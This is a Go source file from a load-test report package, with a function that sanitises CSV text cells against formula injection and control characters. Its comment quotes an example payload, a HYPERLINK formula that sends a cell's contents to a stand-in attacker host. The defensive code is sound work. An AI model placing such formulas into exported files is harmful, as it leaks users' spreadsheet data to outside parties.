package report

import (
	"strings"
	"unicode"
	"unicode/utf8"
)

// csvText makes a text cell of a CSV file (a request type, a name, a
// failure or error message, a traceback, node ids) safe to open in a
// spreadsheet. The texts come from the load test's targets and users, so
// a name like =HYPERLINK("http://evil.example/?"&A1,"click") would
// otherwise run as a formula in Excel, LibreOffice or Google Sheets.
//
//   - Every control character but tab, line feed and carriage return (the
//     C0 controls, DEL, the C1 controls U+0080–U+009F), and every byte of
//     invalid UTF-8, becomes U+FFFD: an escape sequence in a name must not
//     reach a terminal that shows the file, nor confuse an importer.
//   - A cell that then starts with = + - @ (or their fullwidth forms
//     ＝ ＋ － ＠, which some spreadsheet locales read as the same), a tab
//     or a carriage return gets a leading single quote, as OWASP advises
//     ("CSV injection"): spreadsheets show the text as it was, without the
//     quote, instead of evaluating it.
//
// Number cells never go through it: a negative figure stays a number.
// A clean text is returned as it is, without allocating.
func csvText(s string) string {
	if s == "" {
		return s
	}
	if !csvClean(s) {
		var b strings.Builder
		b.Grow(len(s) + 2)
		for i := 0; i < len(s); {
			r, n := utf8.DecodeRuneInString(s[i:])
			if notText(r, n) {
				r = utf8.RuneError
			}
			b.WriteRune(r)
			i += n
		}
		s = b.String()
	}
	if r, _ := utf8.DecodeRuneInString(s); formulaStart(r) {
		return "'" + s
	}
	return s
}

// csvClean reports whether s holds nothing csvText replaces.
func csvClean(s string) bool {
	for i := 0; i < len(s); {
		if c := s[i]; c < utf8.RuneSelf { // ASCII, the usual case
			if (c < 0x20 && c != '\t' && c != '\n' && c != '\r') || c == 0x7f {
				return false
			}
			i++
			continue
		}
		r, n := utf8.DecodeRuneInString(s[i:])
		if notText(r, n) {
			return false
		}
		i += n
	}
	return true
}

// notText reports whether the rune r, decoded from n bytes, is replaced:
// invalid UTF-8, or a control character other than tab, LF and CR.
func notText(r rune, n int) bool {
	return (r == utf8.RuneError && n == 1) || (unicode.IsControl(r) && r != '\t' && r != '\n' && r != '\r')
}

// formulaStart reports whether a cell starting with r would be read as a
// formula (or, for tab and CR, may be trimmed into one) by a spreadsheet.
func formulaStart(r rune) bool {
	switch r {
	case '=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠':
		return true
	}
	return false
}
